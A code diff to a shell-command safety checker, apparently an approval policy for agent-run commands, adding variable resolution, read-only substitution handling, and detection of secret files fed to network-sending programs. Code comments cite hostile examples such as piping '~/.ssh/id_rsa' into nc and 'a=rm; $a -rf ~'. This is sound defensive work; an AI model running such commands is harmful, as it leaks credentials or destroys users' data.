@@ -22,6 +22,7 @@ import { finding, q, writeCheck, type Check, type CheckEnv, type Finding, type S
 import { checkArgv } from './command-checks';
 import { EXEC_ENV, SYSTEM_BIN_DIRS } from './command-tables';
 import { placesOf } from './command-paths';
+import { SENDERS, isSecretPath } from './command-checks-more';
 
 export interface CommandAssessment extends PolicyDecision {
   /** each sub-command's text, in order, including those of scripts it runs (for the approval UI) */
@@ -79,11 +80,14 @@ function judgeScript(source: string, ctx: JudgeCtx, startCwds: (string | null)[]
   const subs: SubJudgement[] = [];
   // every directory a command may run in: a `cd` that can fail leaves both; `cd x && y` runs y in x
   const cwds = new Set(startCwds);
+  // variables the script itself sets to a literal (`a=rm; $a -rf ~`): their uses are judged as what they hold
+  const known = new Map<string, Word | null>();
   const afterCd = new Map<number, (string | null)[]>();
   parsed.commands.forEach((cmd, index) => {
     const guard = [...cmd.guards].reverse().find((g) => afterCd.has(g));
     const here = guard !== undefined ? afterCd.get(guard)! : [...cwds];
-    subs.push(judgeCommand(cmd, parsed.commands, here, ctx));
+    subs.push(judgeCommand(cmd, parsed.commands, here, ctx, known));
+    learnAssignments(cmd, known, source);
     const moved = cdTargets(cmd, here, ctx.home);
     if (moved) {
       afterCd.set(index, moved);
@@ -95,13 +99,25 @@ function judgeScript(source: string, ctx: JudgeCtx, startCwds: (string | null)[]
       subs.push({ text: f.text, readOnly: false, nested: [], display: true, findings: [{ tier: 1, reason: `${q(f.text)} is a fork bomb: it copies itself until the machine stops responding` }] });
     }
   }
+  // a substitution is opaque unless what it runs is itself read-only and nothing its output could reach
+  // does more than read: `for i in $(seq 1 9); do npm test; done` runs, `rm $(ls)` and `$(echo rm) x` still ask
+  const reachesWrite = parsed.commands.some((cmd, i) => !subs[i]!.readOnly && cmd.words.some((w) => w.value === null));
   for (const s of parsed.substitutions) {
+    if (!reachesWrite && substitutionReadOnly(s, ctx, startCwds)) continue;
     subs.push({
       text: s, readOnly: false, nested: [], display: false,
       findings: [{ opaque: true, reason: `${q(s)} puts a command's output into the command line, which is only known when it runs` }],
     });
   }
   return { subs, error: parsed.error };
+}
+
+/** The commands inside `$(…)` / backticks are all read-only, with nothing to ask about. */
+function substitutionReadOnly(text: string, ctx: JudgeCtx, cwds: (string | null)[]): boolean {
+  const inner = text.startsWith('$(') && text.endsWith(')') ? text.slice(2, -1) : text.startsWith('`') && text.endsWith('`') ? text.slice(1, -1) : null;
+  if (inner === null || inner.trim() === '' || ctx.depth >= MAX_NESTING) return false;
+  const judged = judgeScript(inner, { ...ctx, depth: ctx.depth + 1 }, cwds);
+  return !judged.error && judged.subs.every((x) => x.readOnly && x.findings.length === 0);
 }
 
 /** Where `cd`/`pushd`/`popd` leaves the shell, for each directory it may start in; null when not a cd. */
@@ -115,7 +131,56 @@ function cdTargets(cmd: ShellCommand, here: (string | null)[], home: string): (s
   return placesOf(target, { workspace: '/', home, cwds: here }).map((p) => ('abs' in p ? p.abs : null));
 }
 
-function judgeCommand(cmd: ShellCommand, all: readonly ShellCommand[], cwds: (string | null)[], ctx: JudgeCtx): SubJudgement {
+/** Record `name=literal` (a null entry once a name is set to something unknown or to two values). */
+function learnAssignments(cmd: ShellCommand, known: Map<string, Word | null>, source: string): void {
+  if (cmd.kind !== 'assign' && cmd.kind !== 'declare') return;
+  for (const a of cmd.assignments) {
+    const v = a.value && a.value.value !== null && !a.value.glob && !a.value.brace && !boundElsewhere(source, a.name) ? a.value : null;
+    known.set(a.name, known.has(a.name) && known.get(a.name)?.value !== v?.value ? null : v);
+  }
+}
+
+/**
+ * Whether the script may give a variable another value than its one plain assignment: a loop, read,
+ * getopts, let, declare/export/local, printf -v, ${x:=…}, ((x…)), x+=, a second assignment, or
+ * eval/source anywhere (which can set anything). Then its uses stay unknown.
+ */
+function boundElsewhere(source: string, name: string): boolean {
+  if (!/^\w+$/.test(name)) return true;
+  const n = `\\b${name}\\b`;
+  const other = new RegExp(
+    `\\bfor\\s+${name}\\b|\\b(read|getopts|mapfile|readarray|let|declare|typeset|local|export|readonly|printf)\\b[^;&|\\n]*${n}|\\$\\{${name}:?[=?]|\\(\\([^)]*${n}|\\b${name}(\\[[^\\]]*\\])?\\+?=\\(|\\b${name}\\+=|\\b(eval|source|alias)\\b|(^|[;&|(\\s])\\.\\s`,
+  );
+  const assigns = source.match(new RegExp(`(^|[^\\w$])${name}=`, 'g'))?.length ?? 0;
+  return assigns !== 1 || other.test(source);
+}
+
+/** `of=$p`, `$d/build`: one variable inside plain characters */
+const PART_WORD = /^([\w./=:@%+,-]*)\$(?:\{(\w+)\}|(\w+))([\w./:@%+,-]*)$/;
+const VAR_WORD = /^("?)\$(?:\{(\w+)\}|(\w+))\1$/;
+const ECHO_SUBST = /^("?)(?:\$\(\s*(?:echo|printf)\s+(?:'([^']*)'|"([^"$`\\]*)"|([\w./~-]+))\s*\)|`\s*echo\s+([\w./~-]+)\s*`)\1$/;
+
+/** Words whose value the script makes known statically: a variable it set to a literal, `$(echo literal)`. */
+function resolveWords(words: readonly Word[], known: Map<string, Word | null>): Word[] {
+  return words.flatMap((w) => {
+    if (w.value !== null) return [w];
+    const part = PART_WORD.exec(w.raw);
+    if (part) {
+      const inner = known.get(part[2] ?? part[3]!);
+      if (inner?.value != null && !/\s/.test(inner.value)) return [{ ...w, value: `${part[1]}${inner.value}${part[4]}`, tilde: part[1] === '' && inner.tilde }];
+    }
+    const m = VAR_WORD.exec(w.raw);
+    const held = m ? known.get(m[2] ?? m[3]!) : undefined;
+    const e = held ? null : ECHO_SUBST.exec(w.raw);
+    const text = held?.value ?? (e ? (e[2] ?? e[3] ?? e[4] ?? e[5]) : undefined);
+    if (text === undefined || text === null) return [w];
+    const quoted = (m?.[1] ?? e?.[1]) === '"';
+    const parts = quoted ? [text] : text.split(/\s+/).filter(Boolean);
+    return parts.map((p) => ({ ...w, value: p, raw: w.raw, tilde: !quoted && p.startsWith('~') }));
+  });
+}
+
+function judgeCommand(cmd: ShellCommand, all: readonly ShellCommand[], cwds: (string | null)[], ctx: JudgeCtx, known: Map<string, Word | null> = new Map()): SubJudgement {
   const sub: SubJudgement = { text: cmd.text, readOnly: true, findings: [], nested: [], display: true };
   const env = makeEnv(sub, cmd, all, cwds, ctx);
   const self: Check = { name: '', base: '', args: [], vals: [], trusted: true, env };
@@ -127,8 +192,13 @@ function judgeCommand(cmd: ShellCommand, all: readonly ShellCommand[], cwds: (st
   }
   for (const r of cmd.redirects) {
     if (r.target && isWriteOp(r.op) && writeCheck(self, r.target)) sub.readOnly = false;
+    // `nc host port < ~/.ssh/id_rsa`: a secret fed to a program that sends it away
+    const name = cmd.words[0]?.value;
+    if (r.target && r.op === '<' && name && SENDERS.has(path.posix.basename(name)) && isSecretPath(r.target, self)) {
+      finding(self, { tier: 2, reason: `${q(cmd.text)} sends ${q(r.target.raw)} (a secret: keys, tokens, credentials) to another machine` });
+    }
   }
-  if (cmd.kind === 'command') env.argv(cmd.words);
+  if (cmd.kind === 'command') env.argv(resolveWords(cmd.words, known));
   else if (cmd.kind === 'redirect' && !sub.readOnly) sub.key = exactKey(cmd.text);
   return sub;
 }
